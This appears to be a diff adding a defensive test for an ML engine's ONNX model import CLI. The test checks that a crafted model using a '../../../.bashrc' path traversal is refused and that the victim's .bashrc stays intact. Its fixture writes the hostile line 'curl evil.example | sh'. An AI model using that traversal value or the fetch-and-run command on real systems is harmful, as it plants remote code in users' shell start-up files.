@@ -16,6 +16,7 @@ from engine.classifiers.onnx import external_data_files, load_onnx
 from engine.core.untrusted import UntrustedFileError
 from engine.models.importing import import_classifier
 from tests.engine.classifiers.test_onnx import SHAPE, Net, export
+from tests.engine.cli.test_cli import cli
 from tests.engine.models.test_importing import left_behind, user_home  # noqa: F401
 
 BASHRC = b"# the victim's shell start-up file\nalias ls='ls --color'\n"
@@ -141,3 +142,20 @@ def test_a_location_in_a_subfolder_imports(user_home: Path, tmp_path):  # noqa: 
     assert set(card["files"]) == {"ext.onnx", f"w/{data}"}
     assert (user_home / "models" / "nested" / "w" / data).is_file()
     assert left_behind(user_home) == ["nested"]
+
+
+def test_the_cli_refuses_it_in_one_line(home: Path, env: dict, tmp_path: Path):
+    """Through the real command: exit 2, one `error:` line naming the tensor and the path,
+    no traceback, and the .bashrc beside the home as it was."""
+    victim = home.parent / ".bashrc"
+    victim.write_bytes(BASHRC)
+    downloads = tmp_path / "downloads"
+    downloads.mkdir()
+    (downloads / ".bashrc").write_bytes(b"curl evil.example | sh\n" * 4)
+    model = crafted(downloads / "x" / "a" / "b", "../../../.bashrc")
+    p = cli(["models", "import", str(model), "--dataset", "mnist"], env, ok=False)
+    assert p.returncode == 2, p.stderr
+    lines = p.stderr.strip().splitlines()
+    assert len(lines) == 1 and lines[0].startswith("error: external_data location of tensor")
+    assert "Traceback" not in p.stderr and victim.read_bytes() == BASHRC
+    assert not (home / "models").exists() or not list((home / "models").iterdir())
